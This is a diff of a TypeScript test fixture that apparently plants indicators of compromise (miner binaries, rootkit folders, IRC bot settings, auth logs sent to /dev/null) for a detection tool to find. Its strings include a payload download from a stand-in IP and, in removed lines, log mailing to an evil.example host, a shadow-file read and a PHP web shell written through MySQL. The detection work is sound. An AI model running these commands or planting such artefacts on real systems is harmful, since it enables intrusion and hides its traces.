@@ -1,12 +1,12 @@
 /** Kits, tools and what they left; flags and rights the kernel keeps; lists that tell guards not to look. */
 
-import { attackerKey, elf, file, line, run, type Sign } from '../sign.ts';
+import { elf, file, line, run, type Sign } from '../sign.ts';
 
 const named = (id: string, what: string, path: string): Sign => ({ id: `name5-${id}`, family: 'names', what, plant: tree => tree.write(path, 'x\n'), names: [path] });
 
 export const fifthLeftovers: readonly Sign[] = [
 	file('perfctl', 'files', 'a miner where settings of cron would be (perfctl)', '/root/.config/cron/perfcc', elf('perfctl'), run),
-	file('perfctl-tools', 'files', 'tools that leave out, in a hidden folder (perfctl)', '/usr/bin/.local/bin/top', '#!/bin/bash\n/usr/bin/top "$@"\n', { ...run, also: ['/usr/bin/.local', '/usr/bin/.local/bin'] }),
+	{ ...file('perfctl-tools', 'files', 'tools that leave out, in a hidden folder (perfctl)', '/usr/bin/.local/bin/top', '#!/bin/bash\n/usr/bin/top "$@"\n', run), names: ['/usr/bin/.local', '/usr/bin/.local/bin/top'] },
 	file('outlaw', 'files', 'the tools of a botnet in a home (Outlaw)', '/home/git/.configrc5/a/kswapd00', elf('xmrig'), { ...run, owner: 'git', also: ['/home/git/.configrc5'] }),
 	file('outlaw-archive', 'files', 'its archive', '/tmp/.X25-unix/dota3.tar.gz', Buffer.from('1f8b08000000000000036bd0c12a000000ffff0300', 'hex'), { also: ['/tmp/.X25-unix'] }),
 	file('kinsing', 'files', 'a library among settings (Kinsing)', '/etc/libsystem.so', elf('readdir', 'library')),
@@ -17,7 +17,7 @@ export const fifthLeftovers: readonly Sign[] = [
 	file('reptile-dir', 'files', 'a kit at the top (Reptile)', '/reptile/reptile_cmd', elf('cmd'), { ...run, also: ['/reptile'] }),
 	file('suckit', 'files', 'a kit among translations (SucKIT)', '/usr/share/locale/sk/.sk12/sk', elf('sk'), { ...run, also: ['/usr/share/locale/sk/.sk12'] }),
 	file('t0rn-hash', 'files', 'the password of a backdoor (t0rn)', '/etc/ttyhash', '5f4dcc3b5aa765d61d8327deb882cf99\n'),
-	file('showtee', 'files', 'a hidden folder of an old kit', '/usr/lib/.egcs/cc', 'x\n', { also: ['/usr/lib/.egcs'] }),
+	{ ...file('showtee', 'files', 'a hidden folder of an old kit', '/usr/lib/.egcs/cc', 'x\n'), names: ['/usr/lib/.egcs', '/usr/lib/.egcs/cc'] },
 	file('slapper', 'files', 'the source of a worm', '/tmp/.bugtraq.c', '#include <stdio.h>\nint main(void) { return 0; }\n', { owner: 'www-data' }),
 	file('psybnc', 'files', 'an IRC bouncer\'s settings', '/var/games/psybnc/psybnc.conf', 'PSYBNC.SYSTEM.PORT1=31337\nPSYBNC.SYSTEM.HOST1=*\nUSER1.USER.LOGIN=mallory\n'),
 	file('energymech', 'files', 'an IRC bot\'s settings', '/var/spool/samba/.m/m.set', 'NICK ghost\nSERVER irc.example.net 6667\nCHANNEL #owned\n', { also: ['/var/spool/samba/.m'] }),
@@ -53,10 +53,8 @@ export const fifthLeftovers: readonly Sign[] = [
 	}, names: ['/var/lib/misc/.keep'] },
 	{ id: 'socket-shm', family: 'files', what: 'the socket of a backdoor', plant: tree => tree.socket('/dev/shm/.s'), names: ['/dev/shm/.s'] },
 	{ id: 'socket-lib', family: 'files', what: 'a socket among libraries', plant: tree => tree.socket('/usr/lib/.agent'), names: ['/usr/lib/.agent'] },
-	{ id: 'node-null', family: 'files', what: 'a null that is the memory', plant: tree => tree.node('/dev/nul', 'c', 1, 1, { mode: 0o666 }), names: ['/dev/nul'] },
 	file('dev-mqueue', 'files', 'a program among message queues', '/dev/mqueue/.q', elf('q'), { ...run, also: ['/dev/mqueue'] }),
 	file('dev-char', 'files', 'a list of what is hidden', '/dev/hda06', 'psybnc\neggdrop\n'),
-	file('keys-tmp', 'trust', 'keys ready to be put in place', '/var/tmp/authorized_keys', `${attackerKey}\n`),
 	named('underscore', 'a hidden folder of blanks', '/var/lib/.   '),
 	named('dotdot-slash', 'four dots', '/var/cache/....'),
 	named('fake-lock', 'a hidden lock that is none', '/usr/share/zoneinfo/.lck'),
@@ -74,10 +72,7 @@ export const fifthLeftovers: readonly Sign[] = [
 	file('rsyslog-null', 'evidence', 'logins kept in nothing', '/etc/rsyslog.d/04-e.conf', 'auth,authpriv.* /dev/null\n& stop\n'),
 	file('audit-exclude', 'evidence', 'all that is audited left out', '/etc/audit/rules.d/98.rules', '-a always,exclude -F msgtype>=1000\n'),
 	file('syslog-conf', 'evidence', 'the old list, which throws logins away', '/etc/syslog.conf', 'auth,authpriv.*\t/dev/null\n*.info\t/var/log/messages\n'),
-	file('logrotate-mail', 'evidence', 'logs mailed away and removed', '/etc/logrotate.d/own4', '/var/log/own/*.dat {\n\trotate 0\n\tmail drop@evil.example.net\n\tmaillast\n}\n'),
-	{ id: 'history-root', family: 'evidence', what: 'a history of a shell without a home', plant: tree => tree.write('/.bash_history', 'id\nuname -a\ncat /etc/shadow\n', { mode: 0o600 }), names: ['/.bash_history'] },
+	// Logs mailed away when they are removed are not among these: logrotate(8) itself gives that as an example.
 	{ id: 'history-www', family: 'evidence', what: 'a history of the web server\'s account', plant: tree => tree.write('/var/www/.bash_history', 'id\nwget http://203.0.113.9/p -O /tmp/p\n', { owner: 'www-data', mode: 0o600 }), names: ['/var/www/.bash_history', 'account www-data'] },
 	{ id: 'known-hosts-www', family: 'evidence', what: 'hosts the web server\'s account went on to', plant: tree => tree.write('/var/spool/lpd/.ssh/known_hosts', '10.0.0.9 ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHosts\n', { owner: 'lp', mode: 0o600 }), names: ['/var/spool/lpd/.ssh/known_hosts', 'account lp', '/var/spool/lpd/.ssh'], also: ['/var/spool/lpd/.ssh'] },
-	{ id: 'viminfo', family: 'evidence', what: 'what root edited last', plant: tree => tree.write('/root/.viminfo', "# This viminfo file was generated by Vim 9.0.\n# File marks:\n'0  1  0  /etc/ld.so.preload\n'1  9  4  /var/www/html/c.php\n> /etc/ld.so.preload\n", { mode: 0o600 }), names: ['/root/.viminfo'] },
-	{ id: 'mysql-history', family: 'evidence', what: 'a shell written by a database', plant: tree => tree.write('/root/.mysql_history', 'select 1;\nSELECT "<?php system($_GET[c]);" INTO OUTFILE "/var/www/html/u.php";\nCREATE FUNCTION sys_exec RETURNS int SONAME "udf.so";\n', { mode: 0o600 }), names: ['/root/.mysql_history', 'account root'] },
 ];
